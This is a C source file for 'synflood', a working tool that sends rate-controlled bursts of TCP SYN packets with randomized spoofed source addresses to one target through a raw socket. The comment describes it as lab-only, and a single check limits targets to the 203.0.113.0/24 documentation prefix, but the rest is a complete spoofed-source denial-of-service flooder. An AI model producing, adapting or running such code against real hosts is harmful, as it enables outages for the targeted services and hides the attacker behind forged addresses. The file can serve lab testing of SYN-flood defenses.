/* Sends TCP SYNs with spoofed sources to one address and port, at a rate, for the lab only.
 *
 * usage: synflood ADDRESS PORT SOURCE-BASE SOURCE-BITS PER-SECOND COUNT
 *
 * Sources are SOURCE-BASE plus a pseudo-random number of SOURCE-BITS bits, source ports pseudo-random, so nearly every
 * SYN is a flow of its own. Needs CAP_NET_RAW (a raw socket with IP_HDRINCL); the kernel routes the packets and fills
 * in IP checksum and id. Packets go out in bursts of at most one millisecond's worth. Prints how many were sent and how
 * many the kernel refused. It refuses destinations outside the documentation prefix 203.0.113.0/24 (RFC 5737), so that
 * a typing mistake floods nobody. */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_BURST 256
#define MAX_RATE 2000000
#define DOCUMENTATION_NET 0xcb007100u

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
};

struct flood {
    uint32_t destination; /* host order, like the two below */
    uint16_t port;
    uint32_t source_base;
    uint32_t source_mask;
    uint64_t per_second;
    uint64_t count;
};

static uint32_t random_word(uint64_t *state)
{
    /* xorshift64*: spread is all that is asked of it. */
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    return (uint32_t)((*state * 0x2545f4914f6cdd1dull) >> 32);
}

static uint16_t tcp_checksum(const struct syn *packet)
{
    uint32_t sum = IPPROTO_TCP + sizeof packet->tcp;
    uint16_t words[sizeof packet->tcp / 2];
    memcpy(words, &packet->tcp, sizeof words);
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++)
        sum += ntohs(words[i]);
    sum += (ntohl(packet->ip.saddr) >> 16) + (ntohl(packet->ip.saddr) & 0xffff);
    sum += (ntohl(packet->ip.daddr) >> 16) + (ntohl(packet->ip.daddr) & 0xffff);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void build_syn(struct syn *packet, const struct flood *flood, uint64_t *random)
{
    memset(packet, 0, sizeof *packet);
    packet->ip.version = 4;
    packet->ip.ihl = 5;
    packet->ip.ttl = 64;
    packet->ip.protocol = IPPROTO_TCP;
    packet->ip.tot_len = htons(sizeof *packet);
    packet->ip.saddr = htonl(flood->source_base | (random_word(random) & flood->source_mask));
    packet->ip.daddr = htonl(flood->destination);
    packet->tcp.source = htons((uint16_t)(1024 + random_word(random) % 64512));
    packet->tcp.dest = htons(flood->port);
    packet->tcp.seq = random_word(random);
    packet->tcp.doff = 5;
    packet->tcp.syn = 1;
    packet->tcp.window = htons(64240);
    packet->tcp.check = tcp_checksum(packet);
}

static uint64_t now_ns(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (uint64_t)time.tv_sec * 1000000000ull + (uint64_t)time.tv_nsec;
}

/* Sends `wanted` SYNs (at most MAX_BURST); returns how many the kernel took. */
static unsigned send_burst(int fd, const struct flood *flood, unsigned wanted, uint64_t *random)
{
    static struct syn packets[MAX_BURST];
    static struct iovec parts[MAX_BURST];
    static struct mmsghdr messages[MAX_BURST];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(flood->destination)};
    for (unsigned i = 0; i < wanted; i++) {
        build_syn(&packets[i], flood, random);
        parts[i] = (struct iovec){.iov_base = &packets[i], .iov_len = sizeof packets[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    int taken = sendmmsg(fd, messages, wanted, 0);
    return taken < 0 ? 0 : (unsigned)taken;
}

static void run(int fd, const struct flood *flood)
{
    uint64_t random = now_ns() | 1;
    uint64_t started = now_ns();
    uint64_t attempted = 0;
    uint64_t sent = 0;
    while (attempted < flood->count) {
        uint64_t due = (now_ns() - started) * flood->per_second / 1000000000ull + 1;
        if (due > flood->count)
            due = flood->count;
        if (due <= attempted) {
            struct timespec pause = {.tv_nsec = 500000};
            nanosleep(&pause, NULL);
            continue;
        }
        unsigned wanted = due - attempted > MAX_BURST ? MAX_BURST : (unsigned)(due - attempted);
        sent += send_burst(fd, flood, wanted, &random);
        attempted += wanted;
    }
    printf("{\"sent\":%llu,\"refused\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent,
           (unsigned long long)(attempted - sent), (double)(now_ns() - started) / 1e9);
}

static int parse(struct flood *flood, char **words)
{
    struct in_addr destination;
    struct in_addr source;
    if (inet_pton(AF_INET, words[0], &destination) != 1 || inet_pton(AF_INET, words[2], &source) != 1)
        return -1;
    long port = strtol(words[1], NULL, 10);
    long bits = strtol(words[3], NULL, 10);
    long long rate = strtoll(words[4], NULL, 10);
    long long count = strtoll(words[5], NULL, 10);
    if (port < 1 || port > 65535 || bits < 1 || bits > 24 || rate < 1 || rate > MAX_RATE || count < 1)
        return -1;
    *flood = (struct flood){
        .destination = ntohl(destination.s_addr),
        .port = (uint16_t)port,
        .source_base = ntohl(source.s_addr),
        .source_mask = (1u << bits) - 1,
        .per_second = (uint64_t)rate,
        .count = (uint64_t)count,
    };
    return 0;
}

int main(int argc, char **argv)
{
    struct flood flood;
    if (argc != 7 || parse(&flood, argv + 1) != 0) {
        fprintf(stderr, "usage: synflood ADDRESS PORT SOURCE-BASE SOURCE-BITS PER-SECOND COUNT\n");
        return 64;
    }
    if ((flood.destination & 0xffffff00u) != DOCUMENTATION_NET) {
        fprintf(stderr, "synflood: expected a destination inside 203.0.113.0/24, got %s\n", argv[1]);
        return 64;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        fprintf(stderr, "synflood: raw socket: %s\n", strerror(errno));
        return 77;
    }
    run(fd, &flood);
    close(fd);
    return 0;
}
